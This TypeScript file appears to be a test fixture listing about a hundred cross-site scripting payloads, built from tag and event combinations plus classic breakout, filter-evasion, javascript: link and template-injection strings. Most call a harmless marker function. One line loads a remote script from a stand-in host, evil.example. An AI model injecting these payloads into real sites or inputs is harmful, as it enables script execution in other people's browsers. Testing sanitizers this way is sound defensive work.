/** Texts that would run a script if a page took them for more than text. Each would call `window.attacked`. */

const CALL = 'window.attacked(1)'
const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'iframe',
  'object',
  'body',
  'input',
  'details',
  'marquee',
  'math',
  'style',
]
const EVENTS = ['onerror', 'onload', 'onfocus autofocus', 'ontoggle open', 'onmouseover', 'onanimationstart']

/** A hundred of them: every tag with every event, and what the field has known for twenty years. */
export const PAGE_ATTACKS: readonly string[] = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x ${event}=${CALL}>`)),
  `<script>${CALL}</script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg/onload=${CALL}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `[a link](javascript:${CALL})`,
  `[a link](JaVaScRiPt:${CALL})`,
  `[a link](\tjavascript:${CALL})`,
  `[a link](data:text/html,<script>${CALL}</script>)`,
  `![a picture](x"onerror="${CALL})`,
  `<a href="javascript:${CALL}">a link</a>`,
  `<javascript:${CALL}>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `"onmouseover="${CALL}`,
  `' autofocus onfocus='${CALL}`,
  `\u2028<img src=x onerror=${CALL}>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${CALL}%3E`,
]
